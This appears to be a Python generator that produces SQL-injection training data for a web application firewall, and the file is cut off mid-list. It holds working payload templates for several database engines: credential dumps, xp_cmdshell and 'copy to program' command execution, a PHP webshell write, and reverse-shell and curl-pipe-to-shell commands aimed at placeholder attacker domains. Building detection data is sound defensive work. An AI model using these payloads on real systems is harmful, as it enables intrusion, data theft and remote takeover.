"""SQL-injection payload grammar: contexts x techniques x DBMS dialects x terminators."""

# ruff: noqa: E501

from __future__ import annotations

import random
import re
from collections.abc import Callable

from bastion.waf.datagen._fill import Filler, choice_filler, fill
from bastion.waf.datagen.sample import Sample, rand_word, unique_samples, weighted

DBMS: tuple[str, ...] = ("mysql", "mssql", "pgsql", "oracle", "sqlite")
_DBMS_WEIGHTS = (("mysql", 4.0), ("mssql", 2.0), ("pgsql", 2.0), ("oracle", 1.3), ("sqlite", 0.7))

_TABLES = (
    "users", "user", "admin", "admins", "accounts", "members", "customers", "login", "tbl_users",
    "wp_users", "orders", "products", "employees", "credentials", "passwords", "sessions",
    "cms_users", "jos_users", "userinfo", "staff",
)  # fmt: skip
_COLS = (
    "username", "password", "passwd", "pass", "email", "user", "login", "pwd", "name", "id",
    "user_pass", "user_login", "hash", "token", "credit_card", "ssn", "admin", "uname",
)  # fmt: skip
_DOMAINS = (
    "attacker.com", "evil.com", "oast.me", "burpcollaborator.net", "interact.sh", "dnslog.cn",
    "xss.ht", "requestbin.net", "pwn.io", "exfil.example", "x.oastify.com", "canarytokens.com",
)  # fmt: skip


def _num(rng: random.Random) -> str:
    return str(rng.choice([1, 1, 1, 2, 3, 5, 7, 10, rng.randint(1, 9999)]))


def _big(rng: random.Random) -> str:
    return str(rng.choice([1000000, 5000000, 10000000, 50000000, 99999999, 3000000]))


def _secs(rng: random.Random) -> str:
    return str(rng.choice([1, 2, 3, 5, 5, 5, 7, 10, 15, 20, 30]))


def _domain(rng: random.Random) -> str:
    return (
        rng.choice(["", "", rand_word(rng, 4, 10) + "."]) + rng.choice(_DOMAINS)
        if rng.random() < 0.7
        else f"{rand_word(rng, 6, 14)}.{rng.choice(['com', 'net', 'io', 'xyz', 'ru', 'cn'])}"
    )


def _hexstr(rng: random.Random) -> str:
    word = rng.choice(["admin", "root", "test", "qwerty", ":", "~", rand_word(rng, 3, 6)])
    return "0x" + word.encode().hex()


def _charfn(rng: random.Random) -> str:
    word = rng.choice(["admin", "root", "a", "xss", "test", rand_word(rng, 2, 5)])
    codes = ",".join(str(ord(c)) for c in word)
    return rng.choice([f"char({codes})", f"CHAR({codes})"])


def _chrcat(rng: random.Random) -> str:
    word = rng.choice(["admin", "abc", "sys", rand_word(rng, 2, 5)])
    return "||".join(f"chr({ord(c)})" for c in word)


def _subquery(dbms: str) -> tuple[str, ...]:
    return {
        "mysql": (
            "select version()", "select @@version", "select user()", "select database()",
            "select current_user()", "select @@hostname", "select @@datadir",
            "select table_name from information_schema.tables limit 1",
            "select table_name from information_schema.tables where table_schema=database() limit {n},1",
            "select column_name from information_schema.columns where table_name='{tbl}' limit 1",
            "select group_concat({col},0x3a,{col2}) from {tbl}",
            "select concat({col},0x3a,{col2}) from {tbl} limit 0,1",
            "select schema_name from information_schema.schemata limit {n},1",
            "select load_file('/etc/passwd')", "select {col} from {tbl} limit 1",
            "select group_concat(table_name) from information_schema.tables",
            "select authentication_string from mysql.user limit 1",
        ),
        "mssql": (
            "select @@version", "select db_name()", "select system_user", "select user_name()",
            "select top 1 name from sysobjects where xtype='u'", "select host_name()",
            "select top 1 {col} from {tbl}", "select name from master..sysdatabases",
            "select top 1 table_name from information_schema.tables", "select suser_name()",
            "select is_srvrolemember('sysadmin')", "select @@servername",
        ),
        "pgsql": (
            "select version()", "select current_database()", "select current_user",
            "select usename from pg_user limit 1", "select passwd from pg_shadow limit 1",
            "select string_agg(tablename,',') from pg_tables", "select {col} from {tbl} limit 1",
            "select table_name from information_schema.tables limit 1 offset {n}",
            "select current_setting('data_directory')", "select inet_server_addr()",
        ),
        "oracle": (
            "select banner from v$version where rownum=1", "select user from dual",
            "select table_name from all_tables where rownum=1", "select username from all_users where rownum=1",
            "select {col} from {tbl} where rownum=1", "select global_name from global_name",
            "select sys.database_name from dual", "select owner from all_tables where rownum=1",
        ),
        "sqlite": (
            "select sqlite_version()", "select name from sqlite_master where type='table'",
            "select sql from sqlite_master", "select group_concat(tbl_name) from sqlite_master",
            "select {col} from {tbl} limit 1",
        ),
    }[dbms]  # fmt: skip


_LEAK = {
    "mysql": (
        "@@version", "version()", "database()", "user()", "current_user()", "schema()",
        "@@datadir", "@@hostname", "group_concat(table_name)", "group_concat(column_name)",
        "concat({col},0x3a,{col2})", "concat_ws(0x3a,{col},{col2})", "load_file('/etc/passwd')",
        "load_file(0x2f6574632f706173737764)", "group_concat(schema_name)", "table_name",
        "column_name", "{col}", "@@version_compile_os", "system_user()", "session_user()",
        "group_concat({col} separator 0x3c62723e)", "unhex(hex(version()))",
    ),
    "mssql": (
        "@@version", "db_name()", "system_user", "user_name()", "name", "host_name()",
        "@@servername", "{col}", "suser_sname()", "table_name", "{col}+':'+{col2}",
    ),
    "pgsql": (
        "version()", "current_database()", "current_user", "usename", "passwd", "tablename",
        "string_agg({col},',')", "{col}", "current_schema()", "{col}||':'||{col2}",
    ),
    "oracle": ("banner", "user", "table_name", "username", "{col}", "{col}||':'||{col2}", "owner"),
    "sqlite": ("sqlite_version()", "sql", "tbl_name", "group_concat(name)", "{col}", "name"),
}  # fmt: skip
_UNION_FROM = {
    "mysql": (
        "", "", "", " from information_schema.tables", " from information_schema.schemata",
        " from information_schema.columns where table_name='{tbl}'",
        " from information_schema.columns where table_name={tblhex}",
        " from information_schema.tables where table_schema=database()", " from {tbl}",
        " from mysql.user", " from {tbl} limit 0,1", " from dual",
    ),
    "mssql": (
        "", "", " from sysobjects where xtype='u'", " from master..sysdatabases",
        " from sys.tables", " from {tbl}", " from information_schema.tables",
        " from master..syslogins",
    ),
    "pgsql": (
        "", "", " from pg_catalog.pg_tables", " from pg_user", " from pg_shadow",
        " from information_schema.tables", " from {tbl}", " from information_schema.columns",
    ),
    "oracle": (
        " from dual", " from dual", " from v$version", " from all_tables", " from all_users",
        " from user_tab_columns", " from {tbl}", " from sys.user$",
    ),
    "sqlite": ("", " from sqlite_master", " from sqlite_master where type='table'", " from {tbl}"),
}  # fmt: skip

_KEYWORDS = re.compile(
    r"\b(select|union|all|distinct|from|where|and|or|not|order|by|group|having|limit|offset|"
    r"sleep|benchmark|waitfor|delay|exec|execute|declare|drop|table|insert|into|values|update|"
    r"set|delete|case|when|then|else|end|if|null|like|cast|convert|as|int|concat|char|substring|"
    r"ascii|extractvalue|updatexml|information_schema|version|database|user|xor|rlike|between)\b",
    re.IGNORECASE,
)


_WIN_CMDS = (
    "whoami", "ipconfig", "dir c:\\", "net user", "ping -n 5 127.0.0.1",
    "type c:\\windows\\win.ini", "certutil -urlcache -f http://{domain}/a.exe a.exe",
    "powershell -c iex(iwr http://{domain}/a.ps1)", "nslookup {domain}", "hostname",
    "net localgroup administrators", "cmd /c echo pwned > c:\\inetpub\\wwwroot\\{w}.txt",
)  # fmt: skip
_UNIX_CMDS = (
    "id", "whoami", "uname -a", "nslookup {domain}", "curl http://{domain}/x|sh", "cat /etc/passwd",
    "ping -c 3 {domain}", "wget http://{domain}/s -O /tmp/s", "bash -c 'bash -i >& /dev/tcp/{domain}/4444 0>&1'",
)  # fmt: skip


def _make_fillers(dbms: str) -> dict[str, Filler]:
    fl: dict[str, Filler] = {
        "n": _num,
        "n2": _num,
        "big": _big,
        "t": _secs,
        "tbl": choice_filler(_TABLES),
        "col": choice_filler(_COLS),
        "col2": choice_filler(_COLS),
        "domain": _domain,
        "hexs": _hexstr,
        "charfn": _charfn,
        "chrcat": _chrcat,
        "w": lambda r: rand_word(r, 3, 6),
        "W": lambda r: rand_word(r, 4, 4),
        "i": lambda r: str(r.randint(1, 32)),
        "c": lambda r: r.choice("abcdefghijklmnopqrstuvwxyz0123456789_@$"),
        "code": lambda r: str(r.randint(32, 126)),
        "tblhex": lambda r: "0x" + r.choice(_TABLES).encode().hex(),
        "sub_plain": choice_filler(("@@version", "user()", "database()", "1", "now()")),
    }
    fl["sub"] = lambda r: fill(r.choice(_subquery(dbms)), r, fl)
    fl["leak"] = lambda r: fill(r.choice(_LEAK[dbms]), r, fl)
    fl["mleak"] = lambda r: fill(r.choice(_LEAK["mysql"]), r, fl)
    fl["cmd"] = lambda r: fill(r.choice(_WIN_CMDS), r, fl)
    fl["ucmd"] = lambda r: fill(r.choice(_UNIX_CMDS), r, fl)
    return fl


_FILLERS: dict[str, dict[str, Filler]] = {d: _make_fillers(d) for d in DBMS}


# --- contexts and terminators -------------------------------------------------------------


def _base_value(rng: random.Random) -> str:
    return weighted(
        rng,
        (
            ("1", 4.0),
            (str(rng.randint(2, 99999)), 3.0),
            ("", 1.5),
            (rng.choice(["admin", "test", "guest", "root", "user", "john", "a", "x", "abc"]), 2.0),
            (rng.choice(["shoes", "laptop", "search", "hello", "news", "product"]), 1.0),
            (rng.choice(["-1", "0", "999999", f"-{rng.randint(1, 9999)}"]), 1.0),
            (rng.choice(["1.5", "2024-01-01", "a@b.com", "foo bar"]), 0.4),
        ),
    )


class _Ctx:
    """Where the injected value lands: the breakout prefix and what closes the statement."""

    __slots__ = ("dbms", "parens", "prefix", "quote")

    def __init__(self, rng: random.Random, dbms: str, *, numeric_bias: float = 0.35) -> None:
        self.dbms = dbms
        r = rng.random()
        if r < numeric_bias:
            self.quote = ""
        elif r < numeric_bias + (1 - numeric_bias) * 0.72:
            self.quote = "'"
        elif r < 0.97:
            self.quote = '"'
        else:
            self.quote = "`" if dbms == "mysql" else "'"
        self.parens = weighted(rng, ((0, 6.0), (1, 2.5), (2, 1.0), (3, 0.3)))
        base = _base_value(rng)
        if not self.quote and base and not base.lstrip("-").replace(".", "").isdigit():
            base = rng.choice(["1", str(rng.randint(2, 999)), "-1", "0", ""])
        like = self.quote and rng.random() < 0.06
        if like:
            base = rng.choice(["%", "a%", "%test", f"{rand_word(rng, 2, 5)}%"])
        self.prefix = base + self.quote + ")" * self.parens
        if (self.quote or self.parens) and rng.random() < 0.05:  # sqlmap's "as alias where" infix
            self.prefix += f" as {rand_word(rng, 4, 4)} where {(k := rng.randint(1000, 9999))}={k}"

    def sep(self, rng: random.Random) -> str:
        """Space between the breakout and the injected clause (sometimes none after a quote)."""
        if self.quote and rng.random() < 0.12:
            return ""
        if not self.quote and not self.parens and rng.random() < 0.03:
            return ""
        return " "

    def end(self, rng: random.Random, *, allow_balance: bool = True) -> str:
        """A comment terminator, or a tail that re-balances the quotes/parentheses."""
        q, p = self.quote, self.parens
        if allow_balance and (q or p) and rng.random() < 0.33:
            opens = "(" * p
            if q:
                a = rng.choice(["1", "a", "x", rand_word(rng, 1, 4)])
                b = rng.choice(["=", "=", " like ", "="])
                conn = rng.choice(["and", "and", "or", "AND", "OR"])
                return f" {conn} {opens}{q}{a}{q}{b}{q}{a}"
            n = rng.choice(["1", "2", str(rng.randint(1, 9999))])
            return f" and {opens}{n}={n}"
        if not q and not p and rng.random() < 0.35:
            return ""
        comments = [("-- ", 3.0), ("--", 3.0), ("-- -", 2.0), ("--+", 0.6), ("/*", 0.8)]
        comments += [(";--", 1.0), (f"-- {rand_word(rng, 2, 5)}", 0.8), (";", 0.4)]
        if self.dbms == "mysql":
            comments += [("#", 3.0), ("-- #", 0.3), ("%23", 0.3), (";%00", 0.2), ("`", 0.1)]
        if self.dbms == "mssql":
            comments += [(";--", 1.0)]
        return weighted(rng, comments)


def _case(rng: random.Random, payload: str) -> str:
    r = rng.random()
    if r < 0.3:
        return _KEYWORDS.sub(lambda m: m.group(0).upper(), payload)
    if r < 0.36:
        return payload.upper()
    if r < 0.42:
        return _KEYWORDS.sub(
            lambda m: "".join(c.upper() if rng.random() < 0.5 else c for c in m.group(0)), payload
        )
    return payload


# --- techniques ---------------------------------------------------------------------------

_TAUTOLOGIES_NUM = (
    "1=1", "1=1", "{n}={n}", "2>1", "{n}>0", "1<>2", "1!=2", "1", "true", "not false",
    "1 like 1", "1 between 0 and 2", "1 in (1)", "2-1=1", "0x1=0x1", "1 is not null",
    "{n} in ({n},{n2})", "ascii('a')=97", "char(49)=char(49)", "1=1 is true", "3>=2",
    "isnull(null)", "'{w}'='{w}'", "'1'='1'", "'a'='a'", "'x' like 'x'", "''=''", "1 rlike 1",
    "x=x", "a=a", "{n}-{n}=0", "'ab'='a'+'b'", "'ab'='a'||'b'", "'{w}' like '{w}%'", "(exists(select 1))",
    "{n}={n} and {n2}={n2}", "'1'", "0=0",
)  # fmt: skip
_TAUT_OPEN = (  # the last string literal is left open for the query's own closing quote
    "{q}1{q}={q}1", "{q}a{q}={q}a", "{q}x{q}={q}x", "{q}{w}{q}={q}{w}", "{q}{q}={q}",
    "{q}1{q} like {q}1", "{q}a{q}<>{q}b", "{q}b{q}>{q}a", "{q}1{q} in ({q}1",
)  # fmt: skip
_OR = ("or", "or", "or", "OR", "Or", "||", "or not", "xor")


def _tautology(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    q = ctx.quote
    conn = rng.choice(_OR)
    if conn == "or not":
        conn, taut = "or not", rng.choice(["1=2", "false", "0", "1>2"])
    elif conn == "xor":
        conn, taut = "xor", rng.choice(["1=1", "true", "1"])
    else:
        taut = rng.choice(_TAUTOLOGIES_NUM)
    if rng.random() < 0.15:
        taut = f"({taut})"
    sep = ctx.sep(rng)
    if q and not ctx.parens and rng.random() < 0.35:
        tail = fill(rng.choice(_TAUT_OPEN), rng, fl, {"q": q})
        gap = "" if rng.random() < 0.3 else " "
        return f"{ctx.prefix}{sep}{conn}{gap}{tail}", "taut_open"
    extra = ""
    if rng.random() < 0.15:
        extra = rng.choice([" or 1=1", " and 1=1", " or ''='", " limit 1", " -- ", " order by 1"])
        if extra.strip() in ("--",):
            extra = ""
    return fill(f"{ctx.prefix}{sep}{conn} {taut}{extra}{ctx.end(rng)}", rng, fl), "taut"


def _union(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    dbms = ctx.dbms
    ncols = weighted(rng, ((1, 1.0), (2, 2.0), (3, 2.0), (4, 1.5), (5, 1.0), (6, 0.8)))
    ncols += rng.choice([0, 0, 0, rng.randint(1, 8), rng.randint(5, 25)])
    style = rng.choice(["null", "num", "num", "mixed", "str", "same"])
    same = str(rng.randint(1000, 9999))
    cols: list[str] = []
    for i in range(ncols):
        if style == "null":
            cols.append("null" if rng.random() < 0.9 else "NULL")
        elif style == "num":
            cols.append(str(i + 1))
        elif style == "same":  # sqlmap repeats one random marker number
            cols.append(same)
        elif style == "str":
            cols.append(rng.choice(["'a'", f"'{rand_word(rng, 2, 6)}'", "null", str(i + 1)]))
        else:
            cols.append(rng.choice(["null", str(i + 1), f"'{rand_word(rng, 2, 5)}'", "{hexs}"]))
    leak_n = 1 if ncols < 3 else rng.choice([1, 1, 2])
    for _ in range(leak_n):
        cols[rng.randrange(ncols)] = rng.choice(_LEAK[dbms])
    frm = rng.choice(_UNION_FROM[dbms])
    kw = weighted(
        rng, (("union select", 6.0), ("union all select", 3.0), ("union distinct select", 0.5))
    )
    lead = ""
    if not ctx.quote and rng.random() < 0.2:
        lead = rng.choice([" and 1=2", " and false", " and 0"])
    body = f"{kw} {','.join(cols)}{frm}"
    if rng.random() < 0.08 and dbms == "mysql":
        body = f"union(select {','.join(cols)}{frm})"
    if rng.random() < 0.05 and dbms == "mysql":
        body += rng.choice(
            [
                " into outfile '/var/www/html/{w}.php'",
                " into dumpfile '/tmp/{w}'",
                " into outfile '/var/www/{w}.txt' lines terminated by 0x3c3f7068702073797374656d28245f4745545b635d293b3f3e",
            ]
        )
    end = ctx.end(rng, allow_balance=False)
    if ctx.quote and not ctx.parens and not frm and rng.random() < 0.12:
        body, end = f"{body},{ctx.quote}1", ""  # the query's own quote closes the last column
    payload = fill(f"{ctx.prefix}{lead}{ctx.sep(rng) or ' '}{body}{end}", rng, fl)
    return payload, f"union:{dbms}:{'from' if frm else 'nofrom'}"


_ERROR = {
    "mysql": (
        "and extractvalue(1,concat(0x7e,({sub}),0x7e))", "and updatexml(1,concat(0x7e,({sub})),1)",
        "and extractvalue({n},concat(0x5c,({sub})))", "or updatexml(null,concat(0x3a,({sub})),null)",
        "and (select 1 from(select count(*),concat(({sub}),floor(rand(0)*2))x from information_schema.tables group by x)a)",
        "and exp(~(select * from (select {leak})x))", "and gtid_subset(concat(0x7e,({sub}),0x7e),1)",
        "and json_keys((select convert(({sub}) using utf8)))", "and polygon((select * from (select * from (select {leak})a)b))",
        "procedure analyse(extractvalue(rand(),concat(0x3a,({sub}))),1)",
        "and row(1,1)>(select count(*),concat(({sub}),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)",
        "and (select 2*(if((select * from (select concat(0x7e,({sub}),0x7e,0x78))s), 8446744073709551610, 8446744073709551610)))",
        "or 1 group by concat({leak},floor(rand(0)*2)) having min(0)",
    ),
    "mssql": (
        "and 1=convert(int,({sub}))", "and 1=convert(int,{leak})", "and 1=cast(({sub}) as int)",
        "and 1=(select top 1 {col} from {tbl})", "having 1=1", "group by {col} having 1=1",
        "and 1 in (select {leak})", "and {leak}>0", "+convert(int,{leak})+",
        "and 1=convert(int,(select top 1 table_name from information_schema.tables))",
        "and 0<(select top 1 cast({col} as varchar) from {tbl})",
    ),
    "pgsql": (
        "and 1=cast(({sub}) as int)", "and 1=cast(({sub})::text as int)", "and ({sub})::int=1",
        "and 1=cast({leak} as numeric)", "and cast(({sub}) as int)=1",
        "and 1=(select cast(string_agg({col},',') as int) from {tbl})",
    ),
    "oracle": (
        "and 1=ctxsys.drithsx.sn(1,({sub}))", "and 1=utl_inaddr.get_host_name(({sub}))",
        "and 1=dbms_xdb_version.checkin(({sub}))", "and 1=to_number(({sub}))",
        "and (select upper(xmltype(chr(60)||chr(58)||({sub})||chr(62))) from dual) is not null",
        "and 1=ordsys.ord_dicom.getmappingxpath(({sub}),user,user)",
        "and 1=ctxsys.ctx_report.token_type(({sub}),'a')",
    ),
    "sqlite": (
        "and 1=cast(({sub}) as int)", "and load_extension(({sub}))", "and abs(-9223372036854775808)",
    ),
}  # fmt: skip


def _error(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    idx = rng.randrange(len(_ERROR[ctx.dbms]))
    tmpl = _ERROR[ctx.dbms][idx]
    if tmpl.startswith("+"):
        payload = f"{ctx.prefix}{tmpl}{ctx.quote}" if ctx.quote else f"{ctx.prefix}{tmpl[:-1]}"
    else:
        if tmpl.startswith("and ") and rng.random() < 0.25:
            tmpl = "or " + tmpl[4:]
        payload = f"{ctx.prefix}{ctx.sep(rng) or ' '}{tmpl}{ctx.end(rng)}"
    return fill(payload, rng, fl), f"error:{ctx.dbms}:{idx}"


_BLIND = (
    "and {n}=(select count(*) from sysibm.systables as t1,sysibm.systables as t2,sysibm.systables as t3)",
    "and {n}=(select count(*) from rdb$fields as t1,rdb$types as t2,rdb$collations as t3)",
    "and {n}=(select count(*) from domain.domains as t1,domain.columns as t2,domain.tables as t3)",
    "and {n}=(select count(*) from information_schema.system_users as t1,information_schema.system_users as t2)",
    "and {n} in (select ({n}) from sysmaster:sysdual)", "and {n}=(select {n} from rdb$database)",
    "and {n}={n}", "and {n}={n2}", "and 1=2", "and 1=1", "and substring(({sub}),{i},1)='{c}'",
    "and ascii(substring(({sub}),{i},1))>{code}", "and ord(mid(({sub}),{i},1))={code}",
    "and length(({sub}))>{i}", "and (select count(*) from {tbl})>{n}",
    "and exists(select * from {tbl})", "and (select 'x' from {tbl} where {col}='admin' and length({col2})>{i})='x'",
    "and 1=(case when (ascii(substr(({sub}),{i},1))>{code}) then 1 else 0 end)",
    "and (select substr({col},{i},1) from {tbl} limit 1)='{c}'", "and {n}={n} and {n2}={n2}",
    "and (select unicode(substring(({sub}),{i},1)))>{code}", "or {n}={n2}", "and not {n}={n2}",
    "and mid(({sub}),{i},1)='{c}'", "and left(({sub}),{i})='{w}'", "and ({sub}) like '{c}%'",
    "rlike (select (case when ({n}={n}) then 0x{code} else 0x28 end))", "and elt({n}={n},{n})",
    "and make_set({n}={n},{n2})", "and (select {n} from dual where {n}={n})",
    "and instr(({sub}),'{c}')>0", "and bin(ascii(substr(({sub}),{i},1)))>{code}",
    "and iif({n}={n},1,1/0)=1", "and 1=(select 1 where substring(db_name(),{i},1)='{c}')",
)  # fmt: skip


def _blind(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    idx = rng.randrange(len(_BLIND))
    payload = fill(f"{ctx.prefix}{ctx.sep(rng) or ' '}{_BLIND[idx]}{ctx.end(rng)}", rng, fl)
    return payload, f"blind:{idx}"


_TIME = {
    "mysql": (
        "and sleep({t})", "or sleep({t})", "and (select * from (select(sleep({t}))){W})",
        "and if({n}={n},sleep({t}),0)", "and benchmark({big},md5({n}))", "and {n}=benchmark({big},sha1({n}))",
        "or if(1=1,sleep({t}),0)", "xor(if(now()=sysdate(),sleep({t}),0))xor", "rlike sleep({t})",
        "and (select {n} from (select(sleep({t}))){W})", "and sleep({t}) and {n}={n}",
        "or (select * from (select(sleep({t})))a)", "and if(ascii(substr(({sub}),{i},1))>{code},sleep({t}),0)",
        "and (select sleep({t}) from dual where database() like '%')", "order by sleep({t})",
        "and 0=benchmark({big},encode('{w}','{W}'))", "or benchmark({big},md5(now()))",
        "and elt({n}={n},sleep({t}))", "and get_lock('{w}',{t})",
    ),
    "mssql": (
        "; waitfor delay '0:0:{t}'--", "waitfor delay '0:0:{t}'", "; waitfor delay '00:00:{t}'",
        "; if ({n}={n}) waitfor delay '0:0:{t}'--", "); waitfor delay '0:0:{t}'--",
        "; if (ascii(substring(({sub}),{i},1))>{code}) waitfor delay '0:0:{t}'--",
        "and 1=1 waitfor delay '0:0:{t}'", "; waitfor time '00:00:{t}'--",
        "; declare @x char(9);set @x=0x303a303a35;waitfor delay @x--",
    ),
    "pgsql": (
        "; select pg_sleep({t})--", "and 1=(select 1 from pg_sleep({t}))", "|| pg_sleep({t})",
        "and {n}=(case when ({n}={n}) then (select {n} from pg_sleep({t})) else {n} end)",
        "; select case when ({n}={n}) then pg_sleep({t}) else pg_sleep(0) end--",
        "and (select 1 from pg_sleep({t})) is null", "or {n}=(select {n} from pg_sleep({t}))",
        "and {n}=(select count(*) from generate_series(1,{big}))",
    ),
    "oracle": (
        "and 1=dbms_pipe.receive_message('{W}',{t})", "and {n}=dbms_pipe.receive_message(chr(65)||chr(66),{t})",
        "|| dbms_pipe.receive_message(('{c}'),{t})", "or 1=dbms_pipe.receive_message('{w}',{t})",
        "and (select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)>0",
        "and {n}=(case when ({n}={n}) then dbms_pipe.receive_message(('{w}'),{t}) else {n} end)",
        "and 1=dbms_lock.sleep({t})",
    ),
    "sqlite": (
        "and {n}=like('abcdefg',upper(hex(randomblob({big}/2))))", "and randomblob({big})",
        "and {n}=(case when ({n}={n}) then like('abc',upper(hex(randomblob({big})))) else {n} end)",
    ),
}  # fmt: skip


def _time(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    options = _TIME[ctx.dbms]
    idx = rng.randrange(len(options))
    tmpl = options[idx]
    if tmpl[0] in ";)":
        end = rng.choice(["", "", "--", "-- -"]) if not tmpl.endswith("--") else ""
        payload = f"{ctx.prefix}{tmpl}{end}"
    elif ctx.dbms == "mysql" and ctx.quote and rng.random() < 0.12:
        q = ctx.quote
        op = rng.choice(["+", "-", "*", "||", " or ", " and ", "^"])
        payload = (
            f"{ctx.prefix}{op}sleep({{t}}){op}{q}"
            if op.strip() in "+-*^"
            else (f"{ctx.prefix}{op}sleep({{t}}){op}{q}{q}={q}")
        )
    else:
        payload = f"{ctx.prefix}{ctx.sep(rng) or ' '}{tmpl}{ctx.end(rng)}"
    return fill(payload, rng, fl), f"time:{ctx.dbms}:{idx}"


_STACKED = (
    "drop table {tbl}", "drop database {w}", "truncate table {tbl}", "delete from {tbl}",
    "insert into {tbl}({col},{col2}) values('{w}','{W}')", "update {tbl} set {col2}='{w}' where {col}='admin'",
    "select * from {tbl}", "create table {w}(x text)", "alter table {tbl} add {w} varchar(100)",
    "select @@version", "select version()", "grant all privileges on *.* to '{w}'@'%'",
    "create user {w} identified by '{W}'", "select {sub_plain}", "select pg_sleep({t})",
    "select sleep({t})", "shutdown", "set @a={hexs};prepare s from @a;execute s",
)  # fmt: skip
_STACKED_MSSQL = (
    "exec xp_cmdshell '{cmd}'", "exec master..xp_cmdshell '{cmd}'", "exec master.dbo.xp_cmdshell '{cmd}'",
    "exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure",
    "shutdown with nowait", "exec master..xp_dirtree '\\\\{domain}\\a'", "exec xp_fileexist '\\\\{domain}\\x'",
    "declare @q varchar(1024);set @q='\\\\'+(select top 1 {col} from {tbl})+'.{domain}\\a';exec master.dbo.xp_dirtree @q",
    "exec('sel'+'ect 1')", "backup database master to disk='\\\\{domain}\\x'",
    "exec sp_addlogin '{w}','{W}'", "exec sp_addsrvrolemember '{w}','sysadmin'",
    "declare @s varchar(8000) set @s=0x73656c65637420404076657273696f6e exec(@s)",
)  # fmt: skip
_STACKED_PG = (
    "copy (select '') to program '{ucmd}'", "create table {w}(o text);copy {w} from program '{ucmd}'",
    "select pg_read_file('/etc/passwd')", "drop table if exists {tbl}", "select lo_import('/etc/passwd')",
    "create or replace function system(cstring) returns int as '/lib/libc.so.6','system' language 'c' strict",
)  # fmt: skip


def _stacked(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    dbms = ctx.dbms
    pool: tuple[str, ...]
    if dbms == "mssql" and rng.random() < 0.6:
        pool, name = _STACKED_MSSQL, "mssql"
    elif dbms == "pgsql" and rng.random() < 0.4:
        pool, name = _STACKED_PG, "pgsql"
    else:
        pool, name = _STACKED, "generic"
    idx = rng.randrange(len(pool))
    semi = rng.choice([";", "; ", ";", ";\n"])
    end = rng.choice(["--", "--", "-- -", "", "#" if dbms == "mysql" else "--", ";--"])
    return fill(f"{ctx.prefix}{semi}{pool[idx]}{end}", rng, fl), f"stacked:{name}:{idx}"


_ORDER = (
    "order by {i}", "order by {i}", "order by {i},{n}", "group by {i}", "order by {i} desc",
    "group by {col} having 1=1", "having 1=1", "group by 1,2,3 having 1=1", "order by 1,2,3,4,5,6,7,8,9,10",
    "procedure analyse()", "limit 1 into @,@,@", "order by {col},(select 1)",
)  # fmt: skip


def _order(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    idx = rng.randrange(len(_ORDER))
    payload = f"{ctx.prefix}{ctx.sep(rng) or ' '}{_ORDER[idx]}{ctx.end(rng, allow_balance=False)}"
    return fill(payload, rng, fl), f"order:{idx}"


_OOB = {
    "mysql": (
        "and load_file(concat('\\\\\\\\',({sub}),'.{domain}\\\\a'))",
        "union select load_file(concat(0x5c5c5c5c,version(),0x2e,'{domain}',0x5c5c61))",
        "and (select load_file(concat('\\\\\\\\',{leak},'.{domain}\\\\{w}')))",
    ),
    "oracle": (
        "and utl_http.request('http://{domain}/'||({sub}))=1",
        "and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY % remote SYSTEM \"http://{domain}/\"> %remote;]>'),'/l') from dual) is not null",
        "and 1=utl_inaddr.get_host_address(({sub})||'.{domain}')",
        "|| utl_http.request('http://{domain}/'||user) ||",
    ),
    "mssql": (
        "; exec master..xp_dirtree '\\\\{domain}\\a'--", "; exec master..xp_subdirs '\\\\{domain}\\a'--",
        "; declare @a varchar(99);set @a='\\\\'+db_name()+'.{domain}\\a';exec xp_dirtree @a--",
    ),
    "pgsql": (
        "; copy (select '') to program 'nslookup {domain}'--",
        "; select dblink_connect('host={domain} user=a dbname=b')--",
    ),
    "sqlite": ("; attach database '/var/www/{w}.php' as {w};--",),
}  # fmt: skip


def _oob(rng: random.Random, ctx: _Ctx, fl: dict[str, Filler]) -> tuple[str, str]:
    pool = _OOB[ctx.dbms]
    idx = rng.randrange(len(pool))
    tmpl = pool[idx]
    if tmpl.startswith(";"):
        payload = f"{ctx.prefix}{tmpl}"
    else:
        payload = f"{ctx.prefix} {tmpl}{ctx.end(rng)}"
    return fill(payload, rng, fl), f"oob:{ctx.dbms}:{idx}"


_SPECIAL = (
    # ORDER BY / sort parameters
    "(case when ({n}={n}) then {col} else {col2} end)", "if({n}={n},{col},{col2})",
    "(select 1 from dual where {n}={n})", "{col},(select sleep({t}))", "1,extractvalue(1,concat(0x7e,version()))",
    "(select case when (ascii(substr(user(),{i},1))>{code}) then 1 else 1/0 end)",
    "{col} asc,if(1=1,sleep({t}),0)", "1 desc,(select 1 from pg_sleep({t}))", "{col} desc;drop table {tbl}--",
    "(select+1+from+(select+sleep({t}))x)", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "(case when (select 1)=1 then 1 else (select 1 union select 2) end)", "{col},updatexml(1,concat(0x7e,user()),1)",
    "iif(1=1,{col},{col2})", "(select top 1 {col} from {tbl})",
    # LIMIT / numeric
    "1 into @a,@b", "1 union select {leak}", "1,1 union all select null,null--", "0 offset 0 union select 1--",
    "1*(select 1 from (select sleep({t}))x)", "1-if(1=1,sleep({t}),0)", "1+(select 1)",
    "(select(0)from(select(sleep({t})))v)/*'+(select(0)from(select(sleep({t})))v)+'\"+(select(0)from(select(sleep({t})))v)+\"*/",
    "1 and (select 1)=1", "1 and 1 in (select @@version)", "(select {n})", "{n}-0x0", "1/**/and/**/1=1",
    "@@version", "1 and @@version>0", "{n} and user()", "1 or benchmark({big},md5(1))",
    # INSERT values
    "{w}'), ('admin','{W}')--", "{w}', (select @@version))--", "1,(select user()))--", "','');drop table {tbl};--",
    "{w}',(select group_concat({col}) from {tbl}),'{W}')#", "','{w}');insert into {tbl} values('{w}','{W}')--",
    # obfuscated literals
